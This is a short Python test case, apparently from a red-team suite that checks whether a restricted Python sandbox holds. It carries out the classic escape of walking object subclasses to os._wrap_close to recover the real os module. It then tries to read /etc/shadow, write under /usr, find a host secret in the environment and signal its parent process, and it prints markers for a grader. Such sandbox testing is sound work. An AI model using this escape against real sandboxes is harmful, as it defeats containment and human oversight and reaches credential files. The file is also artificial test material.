# attack: walk from () to object's subclasses, find os._wrap_close and take the os module's globals
#   from its __init__ (the classic restricted-builtins escape)
# escaped-if: stdout has "BYPASSED:" (real os reached) or "ESCAPED:" (the host reached with it)
# policy: normal


def contain(real):
    """What the real os can do here; prints ESCAPED for anything that reaches the host."""
    reached = []
    try:
        real["close"](real["open"]("/etc/shadow", real["O_RDONLY"]))
        reached.append("read /etc/shadow")
    except OSError:
        pass
    try:
        real["close"](real["open"]("/usr/nexus-redteam-escape", real["O_WRONLY"] | real["O_CREAT"], 0o600))
        reached.append("created /usr/nexus-redteam-escape")
    except OSError:
        pass
    if any("nexus-redteam-secret" in str(value) for value in real["environ"].values()):
        reached.append("saw the host environment")
    parent = real["getppid"]()
    if parent > 1:
        try:
            real["kill"](parent, 0)
            reached.append(f"may signal its parent {parent}")
        except OSError:
            pass
    print("ESCAPED: " + ", ".join(reached) if reached else "sandbox held: no host file, secret or parent")


for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        real_os = cls.__init__.__globals__
        print("BYPASSED: object.__subclasses__() reached the real os via os._wrap_close")
        contain(real_os)
        break
